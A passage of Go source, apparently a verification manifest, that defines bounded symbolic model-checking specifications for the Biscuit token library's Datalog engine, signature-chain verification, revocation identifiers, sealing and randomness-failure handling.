			{Pkg: "datalog", Func: "VerifC06ArithEdges", Quick: p(), Thorough: p(), Covers: []string{"evaluated"}},
		},
		Assumptions: append([]string{
			"bounds: sets of <= 2 elements (written without repetition, and in a second family with repetitions allowed), byte arrays <= 2 bytes, symbol strings <= 2 (quick) / 3 (thorough) bytes, operator sequences <= 2 (quick) / 3 (thorough) operations; all 64-bit scalar values symbolic",
			"arithmetic is additionally checked with one operand fixed to each of 13 boundary constants (MinInt64, MinInt64+1, -2^32, -3037000500, -2, -1, 0, 1, 2, 3037000500, 2^32, MaxInt64-1, MaxInt64) and the other symbolic, on both sides: multiplication/division by a constant is decidable where the general 64x64 product is not",
			"regular-expression semantics (matches) are outside the solver claim: Go's regexp is trusted",
		}, stdAssumptions...),
		Models:      []string{modelBig},
		Explanation: "every operator x operand-type combination is executed symbolically and compared with a reference operator table; the solver decides every value-dependent obligation for all 2^64 values at once",
		LevelText:   "Bounded symbolic model checking of datalog/expressions.go: each of the 17 binary and 3 unary operators is run on operands of every dynamic type (incl. sets of every element type) with fully symbolic 64-bit values and compared with an independent operator table; operator sequences up to the length bound are compared with a reference stack machine; any panic is a violation. Within the bounds the solver covers all values, which sampling cannot.",
		LevelNote:   "Bounds: sets <= 2 elements, byte arrays <= 2 bytes, strings <= 2/3 bytes, sequences <= 2/3 ops. math/big modelled as exact 128-bit arithmetic; regexp semantics and error texts outside. Interpreter fidelity cross-checked natively every run.",
		DesignRef:   "DESIGN.md §6 C06",
	},
}

func init() {
	checks = append(checks, &CheckSpec{
		Prop:    "C05",
		Harness: []string{"c06_expr.go", "c05_fixpoint.go"},
		Entries: []EntrySpec{
			{Pkg: "datalog", Func: "VerifC05Fixpoint",
				Quick:    p("facts", 2, "rules", 1, "body", 2, "arity", 1, "vars", 2, "expr", 1, "kinds", 1, "varfacts", 0, "varrules", 0),
				Thorough: p("facts", 3, "rules", 1, "body", 2, "arity", 1, "vars", 2, "expr", 1, "kinds", 1, "varfacts", 0, "varrules", 0),
				Covers:   []string{"run-ok", "derived"}},
			{Pkg: "datalog", Func: "VerifC05Fixpoint",
				Quick:    p("facts", 2, "rules", 1, "body", 1, "arity", 1, "vars", 1, "expr", 0, "kinds", 5, "varfacts", 0, "varrules", 0),
				Thorough: p("facts", 2, "rules", 1, "body", 2, "arity", 1, "vars", 2, "expr", 0, "kinds", 5, "varfacts", 0, "varrules", 0),
				Covers:   []string{"run-ok", "derived"}},
			{Pkg: "datalog", Func: "VerifC05Fixpoint",
				Quick:    p("facts", 2, "rules", 1, "body", 1, "arity", 2, "vars", 2, "expr", 0, "kinds", 1, "varfacts", 0, "varrules", 0),
				Thorough: p("facts", 2, "rules", 1, "body", 2, "arity", 2, "vars", 2, "expr", 0, "kinds", 1, "varfacts", 0, "varrules", 0),
				Covers:   []string{"run-ok", "derived"}},
			{Pkg: "datalog", Func: "VerifC05QueryErrors", Quick: p("facts", 2), Thorough: p("facts", 3), Covers: []string{"queried", "answered"}},
			// two rules: chains, mutual recursion, a rule feeding itself through the other
			{Pkg: "datalog", Func: "VerifC05Fixpoint",
				Quick:    p("facts", 1, "rules", 2, "body", 1, "arity", 1, "vars", 1, "expr", 0, "kinds", 1, "varfacts", 0, "varrules", 0),
				Thorough: p("facts", 2, "rules", 2, "body", 1, "arity", 1, "vars", 1, "expr", 1, "kinds", 1, "varfacts", 0, "varrules", 0),
				Covers:   []string{"run-ok", "derived"}},
		},
		Assumptions: append([]string{
			"bounds (quick/thorough): initial facts 2/3, rules 1/2, body predicates <= 2, arity <= 1/2, <= 2 distinct variables, <= 1 integer comparison per rule; predicate names and constants fully symbolic 64-bit; run limits generous; deadline never reached (timeouts are C11)",
			"rules are range-restricted (head variables occur in the body) as the property's fragment requires",
		}, stdAssumptions...),
		Models:      []string{modelCtx},
		Explanation: "World.Run/Rule.Apply/combine (with its producer goroutine) are executed symbolically on a symbolic program; result checked against closure + well-founded derivation conditions, which characterise the least model",
		LevelText:   "Bounded symbolic model checking of the Datalog engine: for every program shape within the bounds, with symbolic predicate names and constants (so which predicates/constants coincide is decided by the solver), the facts left by Run are shown closed under every rule and each derived fact is shown to have a derivation from earlier facts (together: exactly the least model); QueryRule is shown sound and complete w.r.t. the declarative matching definition.",
		LevelNote:   "Bounds on program size as listed in evidence; limits/timeouts excluded (C11); expressions other than one integer comparison excluded (C06); a separate entry queries facts of mixed kinds, on some of which the comparison cannot be evaluated. Goroutines/channels of combine are interpreted by a deterministic scheduler (behaviour is schedule independent: coroutine).",
		DesignRef:   "DESIGN.md §6 C05",
	})
}

func init() {
	checks = append(checks, &CheckSpec{
		Prop:    "C11",
		Harness: hb("c06_expr.go", "c05_fixpoint.go", "c11_limits.go", "c11_authz.go"),
		Entries: []EntrySpec{
			{Pkg: "datalog", Func: "VerifC11Limits", Quick: p("depth", 3), Thorough: p("depth", 4), Covers: []string{"returned", "success", "error"}},
			{Pkg: "datalog", Func: "VerifC11Outcomes", Quick: p(), Thorough: p(), Covers: []string{"returned", "invalid-rule", "expr-error"}},
			{Pkg: "biscuit", Func: "VerifC11AuthorizerLimits", Quick: p(), Thorough: p(), Covers: []string{"authorized", "refused", "allowed"}},
			{Pkg: "datalog", Func: "VerifC11General",
				Quick:    p("facts", 2, "rules", 1, "body", 1, "arity", 1, "vars", 1, "expr", 0, "kinds", 1, "varfacts", 0, "varrules", 0),
				Thorough: p("facts", 2, "rules", 1, "body", 2, "arity", 1, "vars", 2, "expr", 0, "kinds", 1, "varfacts", 0, "varrules", 0),
				Covers:   []string{"returned", "success", "error"}},
		},
		Assumptions: append([]string{
			"limit direction of the claim uses a chain program of known depth d <= 3 (quick) / 4 (thorough) with symbolic names/constant, rules registered in dependency order and in reverse order: fixpoint has d+1 facts and needs d+1 iterations; maxFacts in [0,1000] and maxIterations in [0,100] fully symbolic",
			"VerifC11General: the symbolic program family of C05 (2 facts, 1 rule, <= 1 (quick) / 2 (thorough) body predicates) under symbolic limits and deadline: success implies the complete fixpoint within the fact limit; every error is exactly one limit sentinel",
			"VerifC11AuthorizerLimits: AuthorizerFor and Authorizer with WithWorldOptions, via Authorize (authority world and block world) and via Query",
			"time is a symbolic input: the deadline may pass at any poll of ctx.Done, at the caller's select, or race with the worker's final send; rule heads cannot contain expressions, so divergence reduces to exceeding a limit",
		}, stdAssumptions...),
		Models:      []string{modelCtx, modelBig},
		Explanation: "World.Run with its worker goroutine, select statements and timeout context is interpreted with a deterministic scheduler and a symbolic timer; outcomes are compared with the known fixpoint size/depth of the template and any goroutine left blocked after return is reported",
		LevelText:   "Bounded symbolic model checking of World.Run: symbolic limits and a symbolic deadline over a program family of known fixpoint depth; asserts that success implies the complete fixpoint within the limits, that exceeding a limit yields exactly that limit's sentinel, that non-limit errors are distinguishable, and that after every outcome no goroutine started by the evaluation stays blocked forever (checked on all interpreter threads at quiescence).",
		LevelNote:   "Template programs only for the 'limit exceeded => error' direction (needed iteration counts are not observable for arbitrary programs); scheduler explores deadline positions, not arbitrary preemption (the code's only other synchronisation is a producer/consumer coroutine).",
		DesignRef:   "DESIGN.md §6 C11",
	})
}

func init() {
	checks = append(checks, &CheckSpec{
		Prop:    "C20",
		Harness: []string{"c20_entropy.go"},
		Entries: []EntrySpec{
			{Pkg: "biscuit", Func: "VerifC20Entropy", Quick: p(), Thorough: p(), Covers: []string{"returned", "failing-source", "good-source", "verified"}},
			{Pkg: "biscuit", Func: "VerifC20Sequence", Quick: p("draws", 2), Thorough: p("draws", 4), Covers: []string{"ran-dry", "all-drawn"}},
		},
		Assumptions: append([]string{
			"the supplied source delivers k symbolic bytes (k = 0..32, every value) in one read, byte-by-byte or in 7-byte chunks, then returns an error (a custom error, io.EOF or io.ErrUnexpectedEOF; alone or together with the last chunk); or never fails",
			"VerifC20Sequence: ONE source feeds New, Append, Append(, Append) and fails after k bytes in total, every k up to 32*draws (draws = 2 quick / 4 thorough)",
			"operations: New, Builder.Build with WithRNG, Append",
		}, stdAssumptions...),
		Models:      []string{modelSig, modelCodec},
		Explanation: "ed25519.GenerateKey and io.ReadFull are interpreted from the standard library source; the failure position is enumerated exhaustively and the delivered bytes are symbolic",
		LevelText:   "Bounded symbolic model checking of every randomness-drawing operation against a source failing after k bytes for every k below 32 (all chunkings listed): error returned, no token, no panic on any goroutine; for a healthy source the stored next secret equals the delivered bytes, the announced key is its public key and the token verifies (ideal signature model).",
		LevelNote:   "Real ed25519 key derivation trusted (used in native replay); failure modelled as error return from Read (not short reads with nil error beyond io.ReadFull's contract).",
		DesignRef:   "DESIGN.md §6 C20",
	})
}

var pendingReason = "check not built yet in this session (planned, see DESIGN.md); listed here so that the manifest stays truthful"

var notApplicable = []naEntry{
	{"C01", pendingReason}, {"C02", pendingReason}, {"C03", pendingReason}, {"C04", pendingReason}, {"C05", pendingReason},
	{"C07", pendingReason}, {"C08", pendingReason}, {"C09", pendingReason}, {"C10", pendingReason}, {"C11", pendingReason},
	{"C12", pendingReason}, {"C13", pendingReason}, {"C14", pendingReason},
	{"C15", "the property relates printed text to what the participle parser reads back; decimal/RFC3339/hex formatting of symbolic values and the reflective regexp-lexer parser cannot be encoded for an SMT solver, and with all of it concretised nothing is left for the solver to decide (DESIGN.md §7)"},
	{"C16", pendingReason}, {"C17", pendingReason}, {"C18", pendingReason}, {"C19", pendingReason}, {"C20", pendingReason},
}

func findCheck(prop string) *CheckSpec {
	for _, c := range checks {
		if c.Prop == prop {
			return c
		}
	}
	return nil
}
