package main

// hb: harness files of a check in package biscuit = the shared library of harness helpers + its own files
func hb(extra ...string) []string {
	return append([]string{"c01_chain.go", "c16_keyid.go", "authz_gen.go", "c04_authz.go", "authz_rel.go", "c08_hist.go", "c10_hostile.go"}, extra...)
}

func init() {
	checks = append(checks, &CheckSpec{
		Prop:    "C01",
		Harness: hb(),
		Entries: []EntrySpec{
			{Pkg: "biscuit", Func: "VerifC01Chain", Quick: p("blocks", 1), Thorough: p("blocks", 2), Covers: []string{"accepted", "rejected"}, Solver: "z3-new"},
			{Pkg: "biscuit", Func: "VerifC01Honest", Quick: p("blocks", 3), Thorough: p("blocks", 5), Covers: []string{"done"}},
		},
		Assumptions: append([]string{
			"presented containers: 0..N+1 blocks after the authority (N = 1 quick / 2 thorough honest blocks); at every position the block bytes are any honest block, the announced key any honest key / attacker key / arbitrary 32 bytes, the algorithm Ed25519 or any int32, the signature any honest signature / a signature by any secret any party holds (root, attacker, every prefix's next secret) over exactly the placed fields / arbitrary 64 bytes; proof: any known or arbitrary next secret, any such seal signature, or absent; verifier key: honest root, attacker, arbitrary",
			"selectors for keys, signatures, secrets are symbolic (decided by the solver); all key/seed/junk material is symbolic 256/512-bit; next secrets of length 64, 33 and 0 (arbitrary content) are also presented",
			"honest histories (VerifC01Honest): chains of 3 (quick) / 5 (thorough) blocks, every prefix verified fresh / reloaded / sealed / under a wrong root, and two sibling attenuations of every prefix (fresh, reloaded, sealed)",
			"byte-level mutations that do not decode to a schema-valid message are outside (protobuf decoder trusted); forgery resistance of ed25519 itself is trusted",
		}, stdAssumptions...),
		Models:      []string{modelSig, modelCodec},
		Explanation: "the verifier (Unmarshal + authorizerFor/AuthorizerFor/Authorizer) is executed on a symbolic container and its verdict compared with a structural specification of the chain written over the same ideal signature predicate",
		LevelText:   "Bounded symbolic model checking of signature-chain verification: for every container within the bounds, acceptance under key K holds iff the authority is signed by K over block||alg||nextKey, every later block by the previously announced key, and the proof matches the last announced key (secret's public key, or seal signature over the last placed block); rejection returns no authorizer; tokens built/attenuated/sealed/reloaded by the library are accepted under their root and rejected under another.",
		LevelNote:   "Ideal signature model (deterministic, unforgeable, PUB invertible on its image); ideal codec; block contents irrelevant to the chain and fixed. Bounds N<=1/2.",
		DesignRef:   "DESIGN.md §6 C01",
	})
}

func init() {
	chainAssume := append([]string{
		"histories: build, append^N (N = 1 quick / 2 thorough), and for every prefix: seal, serialize+unmarshal, seal+reload, reload+append; identifier absent or any 32-bit value",
	}, stdAssumptions...)
	checks = append(checks, &CheckSpec{
		Prop:    "C16",
		Harness: hb(),
		Entries: []EntrySpec{
			{Pkg: "biscuit", Func: "VerifC16Travels", Quick: p("blocks", 1), Thorough: p("blocks", 4), Covers: []string{"done"}},
			{Pkg: "biscuit", Func: "VerifC16Lookup", Quick: p(), Thorough: p(), Covers: []string{"looked-up", "no-key", "key-found"}},
		},
		Assumptions: append([]string{"key maps of 0..2 entries under symbolic 32-bit identifiers, each the right or a wrong key, optional default"}, chainAssume...),
		Models:      []string{modelSig, modelCodec},
		Explanation: "derivation histories are executed through the real API with a symbolic identifier; lookup is executed with a symbolic key map and compared with the documented selection rule",
		LevelText:   "Bounded symbolic model checking: the root key identifier (absent or any uint32) is reported unchanged by every token derived by append, seal, serialization and reload; WithRootPublicKeys verifies against exactly map[id] (or the default when the token has no id), reports ErrNoPublicKeyAvailable when there is none, and never falls back to another entry.",
		LevelNote:   "Ideal signature model and ideal codec; histories bounded as listed.",
		DesignRef:   "DESIGN.md §6 C16",
	})
	checks = append(checks, &CheckSpec{
		Prop:    "C17",
		Harness: hb(),
		Entries: []EntrySpec{
			{Pkg: "biscuit", Func: "VerifC17Revocation", Quick: p("blocks", 6), Thorough: p("blocks", 6), Covers: []string{"done"}},
		},
		Assumptions: append([]string{"fresh randomness is modelled by assuming all drawn seeds pairwise distinct; distinctness of identifiers then follows from injectivity of PUB and SIG in the ideal model"}, chainAssume...),
		Models:      []string{modelSig, modelCodec},
		Explanation: "revocation identifiers of every token of a derivation history are compared with the signatures found by an independent proto decoding and with each other",
		LevelText:   "Bounded symbolic model checking: exactly one identifier per block; identifiers of derived tokens (append, seal, reload) start with the parent's, byte for byte; identifier i equals the signature field of signed block i of the decoded envelope; identifiers of all blocks of the history, of a second child of every token of the chain (identical content) and of a twin token with identical content are pairwise distinct for all seed values; every token and sibling reports the same identifiers after all derivations as when it was created.",
		LevelNote:   "Ideal signature model (deterministic, injective); 'independent decoder' is the ideal codec applied to pb.Biscuit, not a separate byte-level reader.",
		DesignRef:   "DESIGN.md §6 C17",
	})
	checks = append(checks, &CheckSpec{
		Prop:    "C09",
		Harness: hb(),
		Entries: []EntrySpec{
			{Pkg: "biscuit", Func: "VerifC09Sealed", Quick: p("blocks", 1), Thorough: p("blocks", 2), Covers: []string{"frozen", "tamper-rejected"}},
		},
		Assumptions: chainAssume,
		Models:      []string{modelSig, modelCodec},
		Explanation: "Seal and the sealed branch of signature verification executed symbolically, before and after a serialization round trip",
		LevelText:   "Bounded symbolic model checking: a sealed token (of every prefix, fresh or reloaded) verifies under the root, keeps revocation ids and block count, refuses Append and Seal with an error and no token; replacing the seal signature, the last announced key, the last block or its signature by any other value is rejected (all replacement values symbolic).",
		LevelNote:   "Equivalence of authorization outcomes between a token and its sealed form is checked in the authz harness family when built; ideal signature and codec models.",
		DesignRef:   "DESIGN.md §6 C09",
	})
}
